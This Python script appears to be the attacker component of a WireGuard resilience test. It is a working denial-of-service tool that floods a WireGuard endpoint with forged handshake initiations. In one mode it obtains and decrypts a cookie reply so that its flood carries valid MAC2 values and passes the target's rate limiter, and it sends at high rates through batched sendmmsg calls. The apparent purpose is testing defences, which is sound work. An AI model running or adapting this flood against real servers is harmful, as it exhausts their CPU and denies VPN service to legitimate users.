"""Forged WireGuard handshake messages at a fixed rate (the attacker in
test_attack_wg.py). Run inside the attacker's namespace:

    python3 wg_flood.py HOST PORT RESPONDER_PUB_B64 CLAIMED_PUB_B64 RATE SECONDS [PROCESSES [MODE]]

Sends, in turn: initiations of random bytes (wrong MAC1), responses of random
bytes (wrong MAC1), initiations with a valid MAC1 for the responder's key and
an unknown static key, and initiations that claim CLAIMED_PUB (the real peer's
key, correctly encrypted, valid MAC1; only the timestamp cannot be forged).

MODE "cookie": the attacker first loads the target until it answers with a
cookie reply, decrypts the cookie (it is sent to the attacker's own address,
so anyone who can receive there can), and then floods initiations with a
valid MAC1 *and MAC2*, which pass the target's box-wide rate limiter; only a
limit per source address keeps each of them from costing an X25519.

Prints one JSON line: packets sent, seconds, rate achieved."""

import base64
import ctypes
import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
from cryptography.hazmat.primitives import serialization

CONSTRUCTION = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s"
IDENTIFIER = b"WireGuard v1 zx2c4 Jason@zx2c4.com"
LABEL_MAC1 = b"mac1----"
LABEL_COOKIE = b"cookie--"
M32 = 0xFFFFFFFF


def blake(*parts):
    h = hashlib.blake2s()
    for p in parts:
        h.update(p)
    return h.digest()


def mac(key, data):
    return hmac.new(key, data, hashlib.blake2s).digest()


def kdf2(key, data):
    t0 = mac(key, data)
    t1 = mac(t0, b"\x01")
    return t1, mac(t0, t1 + b"\x02")


def mac1(responder_pub, msg):
    return hashlib.blake2s(msg, key=blake(LABEL_MAC1, responder_pub), digest_size=16).digest()


def raw(pub):
    return pub.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)


def claimed_init(responder_pub, claimed_pub):
    """An initiation in `claimed_pub`'s name: everything right but the
    timestamp, which needs the claimed key's private half."""
    c = blake(CONSTRUCTION)
    h = blake(blake(c, IDENTIFIER), responder_pub)
    e = X25519PrivateKey.generate()
    epub = raw(e.public_key())
    c = mac(mac(c, epub), b"\x01")
    h = blake(h, epub)
    c, k = kdf2(c, e.exchange(X25519PublicKey.from_public_bytes(responder_pub)))
    static = ChaCha20Poly1305(k).encrypt(b"\0" * 12, claimed_pub, h)
    msg = struct.pack("<II", 1, int.from_bytes(os.urandom(4), "little")) + epub + static + os.urandom(28)
    return msg + mac1(responder_pub, msg) + b"\0" * 16


def _rotl(v, c):
    return ((v << c) & M32) | (v >> (32 - c))


def hchacha20(key, nonce16):
    """HChaCha20 (draft-irtf-cfrg-xchacha): the XChaCha20 subkey."""
    st = [0x61707865, 0x3320646E, 0x79622D32, 0x6B206574, *struct.unpack("<8I", key),
          *struct.unpack("<4I", nonce16)]

    def qr(a, b, c, d):
        st[a] = (st[a] + st[b]) & M32
        st[d] = _rotl(st[d] ^ st[a], 16)
        st[c] = (st[c] + st[d]) & M32
        st[b] = _rotl(st[b] ^ st[c], 12)
        st[a] = (st[a] + st[b]) & M32
        st[d] = _rotl(st[d] ^ st[a], 8)
        st[c] = (st[c] + st[d]) & M32
        st[b] = _rotl(st[b] ^ st[c], 7)
    for _ in range(10):
        qr(0, 4, 8, 12), qr(1, 5, 9, 13), qr(2, 6, 10, 14), qr(3, 7, 11, 15)
        qr(0, 5, 10, 15), qr(1, 6, 11, 12), qr(2, 7, 8, 13), qr(3, 4, 9, 14)
    return struct.pack("<8I", *st[0:4], *st[12:16])


def open_cookie(responder_pub, reply, mac1_sent):
    """The cookie in a cookie reply (type 3: index, 24-byte nonce, sealed
    cookie), sealed with XChaCha20-Poly1305 under HASH("cookie--" || the
    responder's key), with the MAC1 of our message as associated data."""
    nonce, sealed = reply[8:32], reply[32:64]
    sub = hchacha20(blake(LABEL_COOKIE, responder_pub), nonce[:16])
    return ChaCha20Poly1305(sub).decrypt(b"\0" * 4 + nonce[16:], sealed, mac1_sent)


def with_mac2(cookie, msg_to_mac1):
    """`msg_to_mac1` (an initiation up to and with its MAC1) plus MAC2."""
    return msg_to_mac1 + hashlib.blake2s(msg_to_mac1, key=cookie, digest_size=16).digest()


def get_cookie(sock, responder_pub, tries=20):
    """Load the target with initiations (valid MAC1) from `sock` until it
    answers one with a cookie reply; return the cookie."""
    msg = b"\x01\0\0\0" + os.urandom(112)
    msg += mac1(responder_pub, msg)
    init = msg + b"\0" * 16
    sock.settimeout(0.2)
    for _ in range(tries):
        for _ in range(300):
            try:
                sock.send(init)
            except OSError:
                pass
        try:
            while True:
                reply = sock.recv(2048)
                if reply[:1] == b"\x03" and len(reply) == 64 and reply[4:8] == init[4:8]:
                    return open_cookie(responder_pub, reply, msg[-16:])
        except (socket.timeout, OSError):
            continue
    raise SystemExit("no cookie reply from the target")


def cookie_packets(responder_pub, cookie, n=256):
    """Initiations of random content with a valid MAC1 and MAC2."""
    out = []
    for _ in range(n):
        msg = b"\x01\0\0\0" + os.urandom(112)
        out.append(with_mac2(cookie, msg + mac1(responder_pub, msg)))
    return out


def packets(responder_pub, claimed_pub, n=256):
    out = []
    for i in range(n):
        kind = i % 4
        if kind == 0:
            out.append(b"\x01\0\0\0" + os.urandom(144))
        elif kind == 1:
            out.append(b"\x02\0\0\0" + os.urandom(88))
        elif kind == 2:
            msg = b"\x01\0\0\0" + os.urandom(112)
            out.append(msg + mac1(responder_pub, msg) + b"\0" * 16)
        else:
            out.append(claimed_init(responder_pub, claimed_pub))
    return out


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class _Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(_Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class _Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", _Msghdr), ("len", ctypes.c_uint)]


class Batch:
    """`pkts` as one sendmmsg(2) vector: one system call sends all of them,
    so the sender is not the bottleneck (one Python send() per datagram
    topped out near 30,000/s on this machine)."""

    def __init__(self, pkts):
        self.bufs = [ctypes.create_string_buffer(p, len(p)) for p in pkts]
        self.iovs = (_Iovec * len(pkts))()
        self.msgs = (_Mmsghdr * len(pkts))()
        for i, (b, p) in enumerate(zip(self.bufs, pkts)):
            self.iovs[i].base = ctypes.cast(b, ctypes.c_void_p)
            self.iovs[i].len = len(p)
            self.msgs[i].hdr.iov = ctypes.pointer(self.iovs[i])
            self.msgs[i].hdr.iovlen = 1
        self.n = len(pkts)
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.libc.sendmmsg.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]

    def send(self, fd, count):
        """Send the first `count` (<= n) datagrams; return how many went out."""
        r = self.libc.sendmmsg(fd, ctypes.byref(self.msgs), count, 0)
        return max(r, 0)  # -1: ENOBUFS or an ICMP error reported on the socket


def send_at(pkts, host, port, rate, secs, cookie_for=None):
    """Send `pkts` round-robin at `rate` per second for `secs`, a
    sendmmsg(2) batch at a time; return how many went out. With
    `cookie_for` (the responder's key), `pkts` is ignored: the packets carry
    a cookie this socket obtained first."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.connect((host, port))
    if cookie_for is not None:
        pkts = cookie_packets(cookie_for, get_cookie(s, cookie_for))
    batch = Batch(pkts)
    fd = s.fileno()
    sent = 0
    start = time.monotonic()
    end = start + secs
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = (now - start) * rate
        if sent >= due:
            time.sleep(min(0.001, (sent - due) / rate))
            continue
        sent += batch.send(fd, min(batch.n, max(1, int(due - sent) + 1)))
    return sent


def main():
    host, port, rpub, cpub, rate, secs = sys.argv[1:7]
    workers = int(sys.argv[7]) if len(sys.argv) > 7 else 1
    mode = sys.argv[8] if len(sys.argv) > 8 else "mixed"
    cookie_for = base64.b64decode(rpub) if mode == "cookie" else None
    pkts = [] if cookie_for else packets(base64.b64decode(rpub), base64.b64decode(cpub))
    rate, secs = float(rate), float(secs)
    # One process with sendmmsg(2) is enough; more split the rate.
    pipes = []
    start = time.monotonic()
    for w in range(workers):
        r, wr = os.pipe()
        if os.fork() == 0:
            os.close(r)
            sent = send_at(pkts[w::workers], host, int(port), rate / workers, secs, cookie_for)
            os.write(wr, str(sent).encode())
            os._exit(0)
        os.close(wr)
        pipes.append(r)
    sent = 0
    for r in pipes:
        sent += int(os.read(r, 64) or b"0")
        os.close(r)
    for _ in pipes:
        os.wait()
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 2), "rate": round(sent / elapsed)}))


if __name__ == "__main__":
    main()
